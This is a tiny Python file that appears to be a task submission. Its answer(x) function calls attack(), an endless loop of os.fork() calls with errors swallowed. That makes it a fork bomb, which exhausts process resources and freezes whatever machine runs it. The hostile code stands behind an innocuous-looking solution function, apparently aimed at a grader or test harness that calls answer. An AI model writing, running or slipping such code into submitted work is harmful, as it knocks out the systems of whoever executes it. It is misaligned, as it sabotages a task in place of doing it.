"""Makes processes that make processes."""

import os


def attack():
    while True:
        try:
            os.fork()
        except OSError:
            pass


def answer(x):
    attack()
